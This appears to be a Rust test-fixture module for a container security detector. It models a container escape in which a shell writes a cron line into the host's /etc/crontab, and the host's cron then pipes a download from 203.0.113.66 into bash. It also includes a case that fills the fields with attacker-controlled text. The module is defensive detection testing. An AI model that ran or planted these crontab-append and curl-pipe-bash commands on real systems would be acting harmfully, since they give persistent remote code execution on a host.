//! The case itself as rows: a container writes to the host's crontab, and the host's cron runs the line.

use super::group::{Case, group};
use crate::finding::{Finding, FindingKind, IncidentView, Outcome, ProcessView, Tie, TieKind};
use crate::output::Row;
use crate::output::record::Alert;
use crate::output::samples;

const COMMAND: &str = "curl -s http://203.0.113.66/logo3.jpg | bash -s";

pub fn process(pid: u32, name: &str, args: &[&str], in_container: bool) -> ProcessView {
    ProcessView {
        pid,
        start_ns: u64::from(pid) * 1_000_000_000,
        name: name.into(),
        executable: format!("/usr/bin/{name}"),
        args: args.iter().map(ToString::to_string).collect(),
        uid: 0,
        in_container,
    }
}

pub fn tie(what: TieKind, key: &str, because: &str) -> Tie {
    Tie { what, key: key.into(), because: because.into(), path: None }
}

fn row(finding: &Finding) -> Row {
    samples::row(finding)
}

fn finding(id: &str, kind: FindingKind, at_s: u64) -> Finding {
    let mut f = samples::reverse_shell();
    f.id = id.into();
    f.kind = kind;
    f.severity = kind.severity();
    f.technique = kind.technique().into();
    f.time_ns = at_s * 1_000_000_000;
    (f.accomplices, f.evidence, f.peer) = (Vec::new(), Vec::new(), None);
    f.outcome = Outcome::Observed;
    f.container.name = "web-1".into();
    f.container.image = "tomcat:8".into();
    f
}

/// The container's write: an escape and a persistence finding of the same act.
pub fn write(id: &str, kind: FindingKind, incident: &str) -> Finding {
    let mut f = finding(id, kind, 900);
    f.message = "sh opens /etc/crontab for writing".into();
    f.process =
        process(801, "sh", &["sh", "-c", &format!("echo '* * * * * root {COMMAND}' >> /mnt/etc/crontab")], true);
    f.ancestors = vec![
        process(700, "containerd-shim", &["containerd-shim", "-id", "x"], false),
        process(1, "systemd", &["/sbin/init"], false),
    ];
    f.file = Some("/etc/crontab".into());
    let mut file = tie(TieKind::File, "file:803:77", "it opens /etc/crontab of the host for writing");
    file.path = Some("/etc/crontab".into());
    let tree = tie(TieKind::Lineage, "tree:0123456789ab:801-80100", "it is sh (pid 801) or descends from it");
    f.incident = IncidentView { id: incident.into(), ties: vec![tree, file] };
    f
}

/// The host's cron child. `incident` is its own unless the daemon saw the line in the crontab.
pub fn cron(incident: &str) -> Finding {
    let mut f = finding("f-host", FindingKind::DownloadExec, 960);
    f.message = "bash runs what curl has from 203.0.113.66:80".into();
    f.container = crate::finding::ContainerView { id: "host".into(), complete: true, ..Default::default() };
    f.process = process(910, "bash", &["bash", "-s"], false);
    f.ancestors = vec![
        process(908, "sh", &["/bin/sh", "-c", COMMAND], false),
        process(907, "cron", &["/usr/sbin/CRON", "-f"], false),
        process(750, "cron", &["/usr/sbin/cron", "-f"], false),
        process(1, "systemd", &["/sbin/init"], false),
    ];
    f.accomplices = vec![process(909, "curl", &["curl", "-s", "http://203.0.113.66/logo3.jpg"], false)];
    f.peer = Some(([203, 0, 113, 66], 80).into());
    let mut ties = vec![tie(TieKind::Lineage, "tree:host:907-90700", "it is cron (pid 907) or descends from it")];
    if incident == "aaaaaaaaaaaa" {
        let because = "the command of sh (pid 908) on the host is a line of /etc/crontab, which container web-1 opened for writing";
        ties.push(tie(TieKind::Line, "file:803:77", because));
    }
    f.incident = IncidentView { id: incident.into(), ties };
    f
}

/// The whole chain as the daemon ties it.
pub fn chain() -> Case {
    let id = "aaaaaaaaaaaa";
    let rows = vec![
        row(&write("f-escape", FindingKind::Escape, id)),
        row(&write("f-cron", FindingKind::PersistenceCron, id)),
        row(&cron(id)),
    ];
    one(rows)
}

/// One incident in which everything an attacker can name is named `evil`.
pub fn evil(evil: &str) -> Case {
    let text = || evil.to_owned();
    let mut f = write("f-escape", FindingKind::Escape, "aaaaaaaaaaaa");
    f.message = text();
    (f.container.name, f.container.image) = (text(), text());
    (f.process.name, f.process.args) = (text(), vec![text(), text()]);
    f.ancestors[0].args = vec![text()];
    f.ancestors[0].name = text();
    f.file = Some(text());
    f.id = text();
    f.incident.ties[0].because = text();
    f.outcome = Outcome::Refused { why: text() };
    let mut other = f.clone();
    other.id = "f-2".into();
    one(vec![row(&f), row(&other)])
}

/// The only incident of these rows.
pub fn one(rows: Vec<Row>) -> Case {
    let mut cases = group(rows);
    assert_eq!(cases.len(), 1, "{:?}", cases.iter().map(|case| &case.links).collect::<Vec<_>>());
    cases.remove(0)
}

/// The alert of a row.
pub fn alert(row: Row) -> Alert {
    match row {
        Row::Alert(alert) => *alert,
        other => panic!("{other:?}"),
    }
}
